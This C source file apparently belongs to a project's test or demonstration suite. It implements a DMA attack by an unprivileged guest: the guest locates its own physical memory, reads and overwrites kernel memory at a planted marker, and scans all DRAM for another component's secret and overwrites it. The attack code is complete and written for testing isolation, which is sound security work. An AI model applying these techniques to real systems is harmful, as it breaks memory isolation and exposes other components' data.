/* SPDX-License-Identifier: MIT */
/*
 * The attack with physical addresses, as a guest can do it that nobody helps.
 *
 * It does not know where its memory is. So it writes a small program at the same place of each
 * block of it, starts the engine at guesses of where such a place might be, and sees which of its
 * blocks the program has changed.
 */
#include <stddef.h>
#include "attack_parts.h"
#include "engine.h"

#define DRAM_BASE   0x40000000u
#define DRAM_END    0xc0000000u
#define KERNEL_BASE 0x43e00000u /* where the board's boot loader puts the system */
enum {
    KERNEL_SIZE = 1 << 20,  /* at least so much of it is the kernel */
    SYSTEM_SIZE = 34 << 20, /* kernel and boot modules: no place to try programs at */
    GUESS_STEP = 32 << 20,
    PAGE = 4096,
    SAMPLE_PAGES = 256 * 64, /* of one transfer: 64 MiB */
    TEXT_MAX = 32,
};

/* Offsets in each block of the own memory, and in the first one behind them. */
enum place {
    SELF_PROGRAM = 0x1f0000,
    SELF_NUMBER = 0x1f1000,
    SELF_RESULT = 0x1f2000,
    PROGRAM = 0x1f3000,
    BUFFER = ATTACK_BLOCK, /* two blocks long */
};

/* What the kernel alone says, and what the component's secret begins with. Kept so that neither is
 * found where it is only looked for. */
static const char kernel_text[] = "lfsofm!gbvmu;!bopuifs!gbvmu";
static const char secret_text[] = "uif!tfdsfu!pg!b!dpnqpofou";
enum { DISGUISE = 1 };

/* Find out if the block at the physical address `guess` is one of the attacker's own, and which. */
static bool try_guess(struct attacker *attacker, uint32_t guess)
{
    const uint32_t blocks = attacker->size / ATTACK_BLOCK;
    for (uint32_t n = 0; n < blocks; n++) {
        uint32_t base = n * ATTACK_BLOCK;
        attack_set_word(attacker, base + SELF_NUMBER, n + 1);
        attack_set_word(attacker, base + SELF_RESULT, 0);
        engine_copy_program(attacker->memory + base + SELF_PROGRAM, guess + SELF_NUMBER,
                            guess + SELF_RESULT, ENGINE_UNIT);
    }
    (void)attack_run(attacker, guess + SELF_PROGRAM, GUESS_PATIENCE);
    for (uint32_t n = 0; n < blocks; n++) {
        if (attack_word(attacker, n * ATTACK_BLOCK + SELF_RESULT) == n + 1) {
            attacker->physical = guess - n * ATTACK_BLOCK;
            return true;
        }
    }
    return false;
}

/* The attacker's memory is larger than a step, so that it falls between no two guesses. */
static bool find_self(struct attacker *attacker)
{
    for (uint32_t guess = KERNEL_BASE + SYSTEM_SIZE; guess < DRAM_END; guess += GUESS_STEP) {
        if (try_guess(attacker, guess)) {
            return true;
        }
    }
    return false;
}

/* Copy from or to physical memory. */
static bool transfer(struct attacker *attacker, uint32_t from, uint32_t to, uint32_t size)
{
    engine_copy_program(attacker->memory + PROGRAM, from, to, size);
    return attack_run(attacker, attacker->physical + PROGRAM, PATIENCE);
}

static bool matches(const struct attacker *attacker, uint32_t offset, const char *disguised)
{
    uint32_t i = 0;
    while (disguised[i] != '\0' &&
           attacker->memory[offset + i] == (uint8_t)(disguised[i] - DISGUISE)) {
        i++;
    }
    return disguised[i] == '\0';
}

static void print_memory(const struct attacker *attacker, uint32_t offset, uint32_t size)
{
    char text[TEXT_MAX + 1];
    uint32_t length = 0;
    while (length < size && attacker->memory[offset + length] >= ' ' &&
           attacker->memory[offset + length] < 0x7f) {
        text[length] = (char)attacker->memory[offset + length];
        length++;
    }
    text[length] = '\0';
    attacker->print(text);
}

/* Overwrite the unit around `physical`, whose text is at `offset` of the buffer, and read it back.
 */
static void overwrite(struct attacker *attacker, const char *whose, uint32_t physical)
{
    static const char text[] = "overwritten";
    uint32_t unit = physical & ~(uint32_t)(ENGINE_UNIT - 1);
    uint32_t place = BUFFER + physical % ENGINE_UNIT;
    (void)transfer(attacker, unit, attacker->physical + BUFFER, ENGINE_UNIT);
    for (uint32_t i = 0; text[i] != '\0' && (place + i) % ENGINE_UNIT >= place % ENGINE_UNIT; i++) {
        attacker->memory[place + i] = (uint8_t)text[i];
    }
    (void)transfer(attacker, attacker->physical + BUFFER, unit, ENGINE_UNIT);
    for (uint32_t i = 0; i < ENGINE_UNIT; i += 4) {
        attack_set_word(attacker, BUFFER + i, 0);
    }
    (void)transfer(attacker, unit, attacker->physical + BUFFER, ENGINE_UNIT);
    attacker->print("dma: attack: ");
    attacker->print(whose);
    attacker->print(" now: ");
    print_memory(attacker, place, ENGINE_UNIT - physical % ENGINE_UNIT);
    attacker->print("\n");
}

static void print_found(const struct attacker *attacker, const char *whose, uint32_t physical,
                        uint32_t offset)
{
    attacker->print("dma: attack: ");
    attacker->print(whose);
    attacker->print(" at ");
    attack_print_number(attacker, physical, HEXADECIMAL);
    attacker->print(": ");
    print_memory(attacker, offset, TEXT_MAX);
    attacker->print("\n");
}

static void attack_kernel(struct attacker *attacker)
{
    (void)transfer(attacker, KERNEL_BASE, attacker->physical + BUFFER, KERNEL_SIZE);
    for (uint32_t offset = 0; offset < KERNEL_SIZE; offset++) {
        if (matches(attacker, BUFFER + offset, kernel_text)) {
            print_found(attacker, "kernel", KERNEL_BASE + offset, BUFFER + offset);
            overwrite(attacker, "kernel", KERNEL_BASE + offset);
            return;
        }
    }
    attacker->print("dma: attack: kernel: not found\n");
}

static bool is_own(const struct attacker *attacker, uint32_t physical)
{
    return physical - attacker->physical < attacker->size;
}

/* Look at the beginning of each page. */
static void attack_secret(struct attacker *attacker)
{
    for (uint32_t base = DRAM_BASE; base < DRAM_END; base += SAMPLE_PAGES * PAGE) {
        engine_sample_program(attacker->memory + PROGRAM, base, attacker->physical + BUFFER,
                              SAMPLE_PAGES);
        if (!attack_run(attacker, attacker->physical + PROGRAM, PATIENCE)) {
            break; /* behind the end of memory */
        }
        for (uint32_t page = 0; page < SAMPLE_PAGES; page++) {
            uint32_t physical = base + page * PAGE;
            uint32_t offset = BUFFER + page * ENGINE_UNIT;
            if (!is_own(attacker, physical) && matches(attacker, offset, secret_text)) {
                print_found(attacker, "secret", physical, offset);
                overwrite(attacker, "secret", physical);
                return;
            }
        }
    }
    attacker->print("dma: attack: secret: not found\n");
}

void attack_physical(struct attacker *attacker)
{
    attacker->physical = 0;
    if (!find_self(attacker)) {
        attacker->print("dma: attack: no transfer reaches its own memory\n");
        return;
    }
    attacker->print("dma: attack: own memory at ");
    attack_print_number(attacker, attacker->physical, HEXADECIMAL);
    attacker->print("\n");
    attack_kernel(attacker);
    attack_secret(attacker);
    attacker->print("dma: attack: end\n");
}
